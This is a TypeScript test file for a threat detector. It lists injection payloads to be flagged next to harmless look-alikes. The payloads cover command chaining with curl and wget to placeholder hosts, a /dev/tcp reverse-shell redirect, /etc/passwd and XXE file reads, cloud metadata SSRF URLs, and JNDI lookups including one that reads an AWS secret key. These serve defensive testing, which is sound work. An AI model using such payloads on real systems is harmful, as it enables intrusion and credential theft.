// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is what is looked for
import { describe } from 'node:test';
import { table } from './threats.fixture.ts';

describe('path traversal', () => {
  table(
    'pathTraversal',
    [
      ['parent-steps', '../../app/config'],
      ['parent-steps', 'a/../../b'],
      ['parent-steps', '..\\..\\windows'],
      ['parent-steps', '..;/..;/x'],
      ['encoded-parent-step', '%2e%2e%2fx'],
      ['encoded-parent-step', '%252e%252e%252fx'],
      ['encoded-parent-step', '%c0%ae%c0%ae/x'],
      ['encoded-parent-step', '．．／x'],
      ['system-file', '/etc/passwd'],
      ['system-file', 'c:\\windows\\win.ini'],
      ['system-file', '....//....//etc/passwd'],
      ['system-file', '/etc//passwd'],
      ['system-file', '/etc/./passwd'],
      ['file-address', 'file:///x'],
    ],
    ['a/b', 'wait... what', '1..10', '../sibling', './a', 'and/or', 'v1.2..v1.3', 'the file /etc/passwd of a system'],
  );
});

describe('command injection', () => {
  table(
    'commandInjection',
    [
      ['chained-command', '; cat /etc/passwd'],
      ['chained-command', 'x|whoami'],
      ['chained-command', '127.0.0.1 && curl http://x.example'],
      ['chained-command', "a; c'a't /etc/passwd"],
      ['chained-command', 'a; /bin/cat /etc/passwd'],
      ['chained-command', 'a\nwget http://x.example'],
      ['chained-command', 'x;id'],
      ['chained-command', 'x\nwhoami'],
      ['chained-command', 'a;cat$IFS/etc/passwd'],
      ['substitution', '$(id)'],
      ['substitution', '`whoami`'],
      ['substitution', 'cat${IFS}x'],
      ['shell-path', '/bin/bash -i'],
      ['shell-path', 'x >& /dev/tcp/192.0.2.1/80'],
    ],
    [
      'cats & dogs',
      'Tom; cat lover',
      'salt & pepper; find more',
      'a=1&id=2',
      'use `npm install` first',
      'price: $(100)',
      '#!/bin/sh',
      'this | that',
      'A&P',
    ],
  );
});

describe('LDAP injection', () => {
  table(
    'ldapInjection',
    [
      ['filter-break', '*)(uid=*'],
      ['filter-break', 'admin)(&(a=b'],
      ['filter-break', 'x))(|(cn=*'],
      ['filter', '(|(cn=a)(cn=b))'],
    ],
    ['(a)(b)', 'f(x)(y)', 'call (555) 0199', 'a smile :) (really)', 'f(a)(b == c)', '*'],
  );
});

describe('XPath injection', () => {
  table(
    'xpathInjection',
    [
      ['axis', 'ancestor::node()'],
      ['call', "' or string-length(name)=1 or 'a'='b"],
      ['call', "x' or count(/*)=1 or 'a'='b"],
      ['node-test', "']|//*|a['"],
    ],
    ["it's a string-length(x) function", 'parent::class', 'a | b', "O'Brien", 'self::method()'],
  );
});

describe('NoSQL injection', () => {
  table(
    'nosqlInjection',
    [
      ['query-operator', 'user[$ne]'],
      ['query-operator', '{"$gt": ""}'],
      ['query-operator', '{ $ne: 1 }'],
      ['query-operator', "{'$regex': '.*'}"],
      ['server-script', '{"$where": "sleep(1)"}'],
      ['lone-operator', '$where'],
      ['query-operator', '{"\\u0024ne": 1}'],
    ],
    ['$5', 'costs $in total', '$schema', '{"$ref": "#/a"}', 'US$ or EUR', 'a[$i]', '$eq is an operator'],
  );
});

describe('template injection', () => {
  table(
    'templateInjection',
    [
      ['template-calculation', '{{7*7}}'],
      ['template-calculation', 'x ${ 7 * 7 } y'],
      ['template-calculation', '<%= 7*7 %>'],
      ['template-calculation', "{{7*'7'}}"],
      ['template-object', "{{''.__class__.__mro__}}"],
      ['template-object', '${T(java.lang.Runtime).getRuntime()}'],
      ['template-object', '{{constructor.constructor("x")()}}'],
      ['template-object', '{{a}}{{b}} {{self.__init__}}'],
      ['directive', '<#assign x="freemarker">'],
    ],
    [
      '{{name}}',
      '${VERSION}',
      'Hello {{ user.name }}',
      '#{id}',
      'a {b} c',
      '{"a":{"b":1}}',
      '[[link]]',
      '{{ x }} of {{ y }}',
    ],
  );
});

describe('server-side request forgery', () => {
  table(
    'serverSideRequestForgery',
    [
      ['inward-address', 'http://127.0.0.1/'],
      ['inward-address', 'http://10.0.0.1:8080'],
      ['inward-address', 'http://[::1]/'],
      ['inward-address', 'https://0.0.0.0'],
      ['inward-address', '//192.168.1.1/x'],
      ['odd-address', 'http://2130706433/'],
      ['odd-address', 'http://0x7f.1/'],
      ['odd-address', 'http://0177.0.0.1'],
      ['odd-address', 'http://127.1'],
      ['odd-address', 'http://[::ffff:7f00:1]/'],
      ['odd-address', 'http://[::7f00:1]/'],
      ['metadata-host', 'http://[64:ff9b::a9fe:a9fe]/'],
      ['metadata-host', 'http://2852039166/'],
      ['metadata-host', 'http://169.254.169.254/latest/'],
      ['metadata-host', 'http://169.254.169.254./latest/'],
      ['metadata-host', 'http://metadata.google.internal/'],
      ['metadata-host', 'http://１６９．２５４．１６９．２５４/'],
      ['metadata-host', 'https://example.org@169.254.169.254/'],
      ['userinfo', 'https://example.org@attacker.example/'],
      ['inward-name', 'http://localhost:9200/'],
      ['inward-name', 'http://127.0.0.1.nip.io/'],
      ['odd-scheme', 'gopher://x:6379/_x'],
      ['inward-address', 'http:\\\\127.0.0.1\\'],
      ['inward-address', 'http:/127.0.0.1/'],
      ['inward-address', 'http:127.0.0.1'],
      ['inward-address', 'http:/\\127.0.0.1/'],
      ['inward-address', ' ht\ntp://127.0.\t0.1/'],
      ['inward-address', '\\\\127.0.0.1\\share'],
      ['metadata-host', 'http://①⑥⑨.254.169.254/'],
      ['inward-address', 'url=http://127.0.0.1/'],
    ],
    [
      'https://example.org/',
      'http://93.184.216.34/',
      '20.04',
      '1.2.3',
      '10.0.0.1',
      'see http://localhost:3000 for more',
      'https://alice@example.org/',
      'http://[2001:db8::1]/',
      'and//or',
    ],
  );
});

describe('lookup injection', () => {
  table(
    'lookupInjection',
    [
      ['remote-lookup', '${jndi:ldap://x.example/a}'],
      ['remote-lookup', '${JNDI:dns://x}'],
      ['nested-lookup', '${${lower:j}ndi:ldap://x}'],
      ['nested-lookup', '${j${lower:n}di:ldap://x}'],
      ['nested-lookup', '${${::-j}${::-n}di:x}'],
      ['remote-lookup', '%24%7Bjndi:ldap://x}'],
      ['lookup', '${env:AWS_SECRET_ACCESS_KEY}'],
      ['lookup', '${script:javascript:1}'],
    ],
    ['${HOME}', '${a.b}', '$5', 'jndi:ldap', '${user}'],
  );
});

describe('external entities', () => {
  table(
    'externalEntity',
    [
      ['entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
      ['entity', '<!DOCTYPE a [ %x; ]>'],
      ['external-subset', '<!DOCTYPE a SYSTEM "http://x.example/a.dtd">'],
      ['include', '<xi:include href="x"/>'],
    ],
    ['<!DOCTYPE html>', '<!doctype html SYSTEM "about:legacy-compat">', '<a>b</a>', 'an entity of the system'],
  );
});

describe('prototype pollution', () => {
  table(
    'prototypePollution',
    [
      ['prototype', '__proto__'],
      ['prototype', 'a[__proto__][b]'],
      ['prototype', '__proto__.admin'],
      ['prototype', 'a.__proto__.b'],
      ['prototype', '{"__proto__": {"a": 1}}'],
      ['prototype', '{"\\u005f_proto__": {}}'],
      ['constructor', 'constructor.prototype.x'],
      ['constructor', 'constructor[prototype][x]'],
    ],
    ['proto', 'the __proto__ of an object', 'prototype.js', 'a constructor of prototypes', '__typename'],
  );
});

describe('header injection', () => {
  table(
    'headerInjection',
    [
      ['injected-header', 'x\r\nSet-Cookie: a=b'],
      ['injected-header', 'x%0d%0aLocation: http://x.example'],
      ['injected-header', 'x\nContent-Type: text/html'],
      ['injected-message', 'x\r\n\r\nHTTP/1.1 200 OK'],
      ['injected-header', 'a@example.org\nBcc: b@example.org'],
    ],
    ['two\nlines', 'a list:\n- one', 'Dear Ann:\nthanks'],
  );
  table('headerInjection', [], ['Hi\nTo: everybody\nDate: today', 'note:\nhost: me'], 'body');
});
